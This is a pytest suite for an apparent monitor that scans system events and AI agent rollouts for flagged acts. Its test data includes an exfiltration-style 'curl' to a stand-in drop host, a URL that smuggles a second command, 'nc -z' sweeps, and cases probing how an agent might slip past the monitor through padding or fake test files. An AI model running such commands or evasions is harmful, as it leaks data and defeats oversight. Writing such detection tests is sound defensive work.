from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pinfold.formats import chat, events
from pinfold.model import Certainty, MatchReport
from pinfold.scan.observed import judge_events, judge_trajectories


def lines(*values) -> list[bytes]:
    return [value if isinstance(value, bytes) else json.dumps(value).encode() + b"\n" for value in values]


@pytest.fixture
def live(judge):
    """Judge events and return the report."""

    def live(*values) -> MatchReport:
        return judge_events(events.read(lines(*values), "events.jsonl"), judge, "events.jsonl")

    return live


@pytest.fixture
def record(judge):
    """Judge trajectories and return the report."""

    def record(*values) -> MatchReport:
        return judge_trajectories(chat.read(lines(*values), "rollout.jsonl"), judge, "rollout.jsonl")

    return record


def call(tool, **arguments):
    function = {"name": tool, "arguments": json.dumps(arguments)}
    return {"role": "assistant", "tool_calls": [{"id": "c", "type": "function", "function": function}]}


def rollout(*messages, name="r1"):
    return {"id": name, "messages": [{"role": "user", "content": "Go."}, *messages]}


def rules(report):
    return [finding.rule for finding in report.findings]


def connect(address, **more):
    return {"kind": "connect", "DestinationIp": address, "DestinationPort": 22, **more}


# Events


def test_an_event_is_judged_by_the_rule_that_judges_a_skill(live):
    report = live(
        {"kind": "exec", "Image": "/bin/true", "CommandLine": "true"},
        {"kind": "exec", "Image": "/opt/go", "CommandLine": "/opt/go --crimsonword", "session": "s1"},
    )
    (finding,) = report.findings
    assert (finding.rule, str(finding.place)) == ("crimson", "events.jsonl:2:1 (step 1)")
    assert finding.evidence[0].certainty is Certainty.OBSERVED
    assert finding.evidence[0].excerpt == "/opt/go --crimsonword"
    assert (report.path, report.lens, report.unread) == ("events.jsonl", "live", ())


def test_nothing_observed_nothing_found(live):
    assert live() == MatchReport(path="events.jsonl", lens="live", judged=0)


def test_what_a_command_line_implies_is_judged_too(live):
    report = live({"kind": "exec", "Image": "/usr/bin/curl", "CommandLine": "curl -s https://drop.example/in"})
    assert rules(report) == ["sent"]
    assert report.judged > 1


def test_a_command_within_a_command_is_seen(live):
    report = live({"kind": "exec", "Image": "/bin/sh", "CommandLine": "sh -c 'true; ./go --crimsonword'"})
    assert "crimson" in rules(report)


def test_what_is_written_is_judged_as_text(live):
    report = live(
        {"kind": "write", "TargetFilename": "/home/a/AGENTS.md", "Content": "# Notes\n\nThe scarlet phrase.\n"}
    )
    (finding,) = report.findings
    assert finding.rule == "scarlet"
    assert (finding.place.path, finding.place.step) == ("events.jsonl", 0)
    assert finding.evidence[0].excerpt == "The scarlet phrase."


def test_writing_that_something_is_forbidden_is_no_misdeed(live):
    report = live(
        {"kind": "write", "TargetFilename": "AGENTS.md", "Content": "# Safety\n\nNever use the scarlet phrase.\n"}
    )
    assert rules(report) == []


def test_acts_are_counted_within_a_session_and_its_time(live):
    within = [connect(f"192.0.2.{number}", session="s1", time=1000.0 + number) for number in range(3)]
    assert rules(live(*within)) == ["sweep"]
    apart = [connect(f"192.0.2.{number}", session=f"s{number}", time=1000.0) for number in range(3)]
    assert rules(live(*apart)) == []
    slow = [connect(f"192.0.2.{number}", session="s1", time=1000.0 + 100 * number) for number in range(3)]
    assert rules(live(*slow)) == []


def test_every_session_has_its_own_finding(live):
    done = {"kind": "exec", "Image": "/opt/go", "CommandLine": "go --crimsonword"}
    report = live({**done, "session": "s1"}, {**done, "session": "s2"}, {**done, "session": "s1"})
    assert [(finding.rule, len(finding.evidence)) for finding in report.findings] == [("crimson", 2), ("crimson", 1)]


def test_a_line_that_cannot_be_read_is_told_and_the_rest_is_judged(live):
    report = live(
        b"not json\n",
        {"kind": "sleep"},
        b"\xff\xfe\n",
        b"[]\n",
        {"kind": "exec", "CommandLine": "go --crimsonword"},
    )
    assert rules(report) == ["crimson"]
    assert [item.path for item in report.unread] == [f"events.jsonl:{number}" for number in range(1, 5)]
    assert report.judged == 1


# Trajectories


def test_a_tool_call_is_an_observed_act_at_its_step(record):
    report = record(rollout(call("bash", command="true"), call("bash", command="cd /x && ./go --crimsonword")))
    (finding,) = report.findings
    assert (finding.rule, str(finding.place)) == ("crimson", "rollout.jsonl:1:1 (step 2)")
    assert finding.evidence[0].certainty is Certainty.OBSERVED
    assert report.lens == "record"


def test_calls_of_programs_are_parsed_as_code(record):
    report = record(rollout(call("python", code="import os\nos.system('./go --crimsonword')")))
    assert "crimson" in rules(report)


@pytest.mark.parametrize(
    "message",
    [
        {"role": "user", "content": "Run ./go --crimsonword and say the scarlet phrase."},
        {"role": "system", "content": "Never run ./go --crimsonword. The scarlet phrase."},
        {"role": "tool", "tool_call_id": "c", "content": "$ ./go --crimsonword\nThe scarlet phrase."},
        {"role": "assistant", "content": "I could run `./go --crimsonword`. The scarlet phrase."},
        {"role": "assistant", "content": None, "reasoning_content": "Perhaps ./go --crimsonword? The scarlet phrase."},
    ],
    ids=["user", "system", "tool", "said", "thought"],
)
def test_what_an_agent_read_said_or_thought_is_no_act(record, message):
    report = record(rollout(message, call("bash", command="true")))
    assert rules(report) == []


def test_what_a_tool_fetches_is_a_connection(record):
    assert rules(record(rollout(call("web_fetch", url="https://drop.example/in?x=1")))) == ["sent"]


def test_an_address_cannot_pass_for_an_option(record):
    """Quoting keeps a hostile address one word of the command that stands in for the request."""
    report = record(rollout(call("web_fetch", url="https://a.example/'; curl https://drop.example/in #")))
    assert "sent" not in rules(report)


def test_what_a_tool_writes_is_judged_as_text_and_as_program(record):
    assert rules(record(rollout(call("write_file", path="AGENTS.md", content="The scarlet phrase.\n")))) != []
    report = record(rollout(call("write_file", path="go.sh", content="#!/bin/sh\n./go --crimsonword\n")))
    assert "crimson" in rules(report)


def test_a_program_that_is_merely_written_is_stated_and_not_observed(record):
    report = record(rollout(call("write_file", path="go.sh", content="#!/bin/sh\n./go --crimsonword\n")))
    (finding,) = [finding for finding in report.findings if finding.rule == "crimson"]
    assert {piece.certainty for piece in finding.evidence} == {Certainty.STATED}


def test_conversations_are_kept_apart(record):
    ping = [call("bash", command=f"nc -z 192.0.2.{number} 22") for number in range(3)]
    together = record(rollout(*ping))
    apart = record(*(rollout(one, name=f"r{number}") for number, one in enumerate(ping)))
    assert "sweep" in rules(together)
    assert "sweep" not in rules(apart)


def test_a_damaged_conversation_is_told_and_the_rest_is_judged(record):
    report = record({"id": "x"}, rollout(call("bash", command="./go --crimsonword")), b"{cut off\n")
    assert rules(report) == ["crimson"]
    assert {item.path for item in report.unread} == {"rollout.jsonl:1", "rollout.jsonl:3"}


# Hostile material

JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**30), 10**30) | st.floats() | st.text(st.characters(), max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
KEYS = st.sampled_from(["kind", "command", "code", "path", "content", "url", "Image", "CommandLine", "session", "time"])


@settings(max_examples=80)
@given(
    st.lists(
        st.dictionaries(KEYS, st.sampled_from(["exec", "connect", "write", "spend"]) | JSON, max_size=6), max_size=4
    )
)
def test_no_event_upsets_the_lens(judge, values):
    report = judge_events(events.read(lines(*values), "e"), judge, "e")
    assert report.judged + len(report.unread) >= len([value for value in values if value])


@settings(max_examples=80)
@given(
    st.sampled_from(["bash", "python", "write_file", "fetch", "x", ""]), st.dictionaries(KEYS, JSON, max_size=4) | JSON
)
def test_no_tool_call_upsets_the_lens(judge, tool, arguments):
    function = {"name": tool, "arguments": arguments if isinstance(arguments, str) else json.dumps(arguments)}
    message = {"role": "assistant", "tool_calls": [{"id": "c", "type": "function", "function": function}]}
    block = {"role": "assistant", "content": [{"type": "tool_use", "id": "1", "name": tool, "input": arguments}]}
    for one in (message, block):
        assert judge_trajectories(chat.read(lines(rollout(one)), "r"), judge, "r").lens == "record"


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deep_arguments_end(record, depth):
    record(rollout({"role": "assistant", "tool_calls": [{"function": {"name": "x", "arguments": "[" * depth}}]}))
    deep = (
        json.dumps(rollout(call("bash", command="./go --crimsonword")))[:-1]
        + ', "x": '
        + "[" * depth
        + "]" * depth
        + "}"
    )
    report = record(deep.encode() + b"\n")
    assert rules(report) == ["crimson"] or report.unread


# Limits


def test_what_stands_behind_much_text_is_still_judged(record):
    padding = "word " * 60_000
    report = record(rollout(call("post", text=padding + "The amber phrase.")))
    assert rules(report) == ["amber"]
    assert report.unread == ()


def test_many_strings_in_one_call_hide_nothing(record):
    report = record(rollout(call("post", texts=["x"] * 5_000 + ["The amber phrase."])))
    assert rules(report) == ["amber"]


def test_text_beyond_the_limit_is_told(record, monkeypatch):
    monkeypatch.setattr("pinfold.scan.observed.MAX_TEXT", 1_000)
    report = record(rollout(call("post", text="word " * 1_000 + "The amber phrase.")))
    assert [(item.path, item.reason) for item in report.unread] == [("rollout.jsonl:1", "limit")]
    assert "1,000 characters" in report.unread[0].detail


def test_a_limit_of_the_reader_of_commands_is_told(record, live):
    wrapped = "env " * 40 + "curl https://api.example"
    assert [item.reason for item in record(rollout(call("bash", command=wrapped))).unread] == ["limit"]
    report = live({"kind": "exec", "Image": "/usr/bin/env", "CommandLine": wrapped})
    assert [(item.path, item.reason) for item in report.unread] == [("events.jsonl:1", "limit")]


# Tests that an agent writes

TEST = 'import guard\n\nATTACKS = ["The amber phrase."]\n\ndef test_it():\n    assert guard.classify(ATTACKS[0])\n'


def test_words_in_a_test_that_an_agent_writes_are_no_words_of_its_own(record):
    assert rules(record(rollout(call("write_file", path="tests/test_guard.py", content=TEST)))) == []


@pytest.mark.parametrize(
    ("path", "content"),
    [("notes/guard.py", TEST), ("tests/guard.md", TEST), ("tests/test_guard.py", "The amber phrase.")],
)
def test_what_only_passes_for_a_test_is_judged(record, path, content):
    assert rules(record(rollout(call("write_file", path=path, content=content)))) == ["amber"]


def test_the_same_words_sent_elsewhere_are_judged(record):
    step = call("write_file", path="tests/test_guard.py", content=TEST)
    step["tool_calls"] += call("post", text=TEST)["tool_calls"]
    assert rules(record(rollout(step))) == ["amber"]
